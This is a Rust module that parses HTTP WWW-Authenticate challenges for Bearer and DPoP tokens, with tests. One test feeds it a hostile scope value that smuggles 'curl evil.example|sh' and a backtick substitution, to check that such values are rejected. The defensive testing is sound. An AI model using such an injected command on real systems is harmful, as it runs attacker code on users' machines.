//! What a server asks for when it turns a request away: the challenges of its answer.
//!
//! Read by `discovery`, of whoever has no token, and by `caller`, of a token that does not do. Invariants: what is not
//! of the form of a challenge is read over; no more than a bounded piece of any answer is looked at. Sans-I/O.
//! Specifications: RFC 9110 §11.6.1, 6750 §3, 9449 §7.1.

use std::{iter::Peekable, str::Chars};

use http::{HeaderMap, header};

use crate::scope;

/// Longest challenge, and how many of them are looked at.
const TEXT_BYTES_MAX: usize = 8 * 1024;
const HEADERS_MAX: usize = 8;

/// All challenges of one answer.
#[derive(Debug, Default)]
pub(crate) struct Challenges(Vec<Challenge>);

#[derive(Debug)]
struct Challenge {
    /// In small letters.
    scheme: String,
    parameters: Vec<(String, String)>,
}

impl Challenge {
    fn get(&self, name: &str) -> Option<&str> {
        self.parameters.iter().find(|(known, _)| known == name).map(|(_, value)| value.as_str())
    }
}

impl Challenges {
    pub(crate) fn of(headers: &HeaderMap) -> Self {
        let mut all = Self::default();
        for value in headers.get_all(header::WWW_AUTHENTICATE).iter().take(HEADERS_MAX) {
            if let Some(text) = value.to_str().ok().filter(|text| text.len() <= TEXT_BYTES_MAX) {
                all.read(text);
            }
        }
        all
    }

    /// A parameter, of the first challenge that has it.
    pub(crate) fn get(&self, name: &str) -> Option<&str> {
        self.0.iter().find_map(|challenge| challenge.get(name))
    }

    /// Whether a proof by a key of ours is the only way in.
    pub(crate) fn asks_for_dpop_alone(&self) -> bool {
        self.asks("dpop") && !self.asks("bearer")
    }

    /// Whether a proof has to be made again, with the nonce that is given along.
    pub(crate) fn asks_for_nonce(&self) -> bool {
        self.0.iter().any(|one| one.scheme == "dpop" && one.get("error") == Some("use_dpop_nonce"))
    }

    /// What a token would have to be good for. It stands in a command that people are told to type, so it is nothing
    /// where it holds more than names of scopes are made of.
    pub(crate) fn scope_needed(&self) -> Option<&str> {
        let narrow = self.0.iter().find(|one| one.get("error") == Some("insufficient_scope"))?;
        let is_of_names = |scope: &str| scope.split(' ').all(|word| word.is_empty() || scope::is_name(word));
        narrow.get("scope").filter(|scope| !scope.trim().is_empty() && is_of_names(scope))
    }

    fn asks(&self, scheme: &str) -> bool {
        self.0.iter().any(|challenge| challenge.scheme == scheme)
    }

    fn read(&mut self, text: &str) {
        let mut rest = text.chars().peekable();
        loop {
            skip(&mut rest, |c| c == ' ' || c == '\t' || c == ',');
            let word = token(&mut rest);
            if word.is_empty() {
                // The end, or what can stand here by no rule.
                if rest.next().is_none() {
                    return;
                }
                continue;
            }
            skip(&mut rest, |c| c == ' ' || c == '\t');
            if rest.next_if_eq(&'=').is_none() {
                self.0.push(Challenge { scheme: word.to_ascii_lowercase(), parameters: Vec::new() });
                continue;
            }
            skip(&mut rest, |c| c == ' ' || c == '\t');
            let value = value(&mut rest);
            if let Some(challenge) = self.0.last_mut() {
                challenge.parameters.push((word.to_ascii_lowercase(), value));
            }
        }
    }
}

fn skip(rest: &mut Peekable<Chars<'_>>, is_over: impl Fn(char) -> bool) {
    while rest.next_if(|c| is_over(*c)).is_some() {}
}

fn token(rest: &mut Peekable<Chars<'_>>) -> String {
    let is_of_token = |c: &char| c.is_ascii_alphanumeric() || "!#$%&'*+-.^_`|~".contains(*c);
    std::iter::from_fn(|| rest.next_if(is_of_token)).collect()
}

/// A token or a quoted string, of which an end that is missing is the end of the text.
fn value(rest: &mut Peekable<Chars<'_>>) -> String {
    if rest.next_if_eq(&'"').is_none() {
        return token(rest);
    }
    let mut text = String::new();
    while let Some(c) = rest.next() {
        match c {
            '"' => break,
            '\\' => text.extend(rest.next()),
            c => text.push(c),
        }
    }
    text
}

#[cfg(test)]
mod tests {
    use http::HeaderValue;
    use proptest::prelude::*;

    use super::*;

    fn read(values: &[&str]) -> Challenges {
        let pairs = values.iter().map(|value| (header::WWW_AUTHENTICATE, HeaderValue::from_str(value).unwrap()));
        Challenges::of(&pairs.collect())
    }

    #[test]
    fn parameters_are_read_by_whole_names_and_outside_of_texts() {
        let said = read(&[
            r#"Bearer error="invalid_token", x_scope="no", scope="mcp:tools""#,
            r#"DPoP algs="ES256", resource_metadata = "https://a/b""#,
        ]);
        assert_eq!(said.get("scope"), Some("mcp:tools"));
        assert_eq!(said.get("resource_metadata"), Some("https://a/b"));
        assert_eq!((said.get("realm"), said.scope_needed()), (None, None));
        let quoted = read(&[r#"Bearer error_description="a \"b\", scope=\"evil\"", scope="good""#]);
        assert_eq!(quoted.get("scope"), Some("good"));
        assert_eq!(read(&["Bearer Scope=a"]).get("scope"), Some("a"), "names have no case");
    }

    #[test]
    fn a_key_of_ours_is_asked_for_where_nothing_else_is() {
        for (values, alone, nonce) in [
            (vec![r#"DPoP error="use_dpop_nonce", algs="ES256""#], true, true),
            (vec!["Bearer", r#"DPoP algs="ES256""#], false, false),
            (vec![r#"dpop algs="ES256", Bearer realm="x""#], false, false),
            (vec![r#"Bearer error="use_dpop_nonce""#], false, false),
            (vec![r#"Bearer error_description="DPoP error=use_dpop_nonce""#], false, false),
            (vec![], false, false),
        ] {
            let said = read(&values);
            assert_eq!((said.asks_for_dpop_alone(), said.asks_for_nonce()), (alone, nonce), "{values:?}");
        }
    }

    #[test]
    fn more_scope_is_asked_for_by_its_error_alone() {
        for (value, needed) in [
            (r#"Bearer error="insufficient_scope", scope="a b""#, Some("a b")),
            (
                r#"Bearer error="insufficient_scope", scope="files:read https://a.example/b.c-d""#,
                Some("files:read https://a.example/b.c-d"),
            ),
            (r#"Bearer error="insufficient_scope", scope="x';curl${IFS}evil.example|sh;'""#, None),
            (r#"Bearer error="insufficient_scope", scope="a`b`""#, None),
            (r#"Bearer error="insufficient_scope", scope="""#, None),
            (r#"Bearer error="insufficient_scope""#, None),
            (r#"Bearer error="invalid_token", scope="a""#, None),
            (r#"Bearer scope="a", DPoP error="insufficient_scope""#, None),
        ] {
            assert_eq!(read(&[value]).scope_needed(), needed, "{value}");
        }
    }

    proptest! {
        #[test]
        fn any_text_is_read_to_its_end(text in "[ -~]{0,80}") {
            let said = read(&[&text]);
            prop_assert!(said.0.len() <= text.len());
        }
    }
}
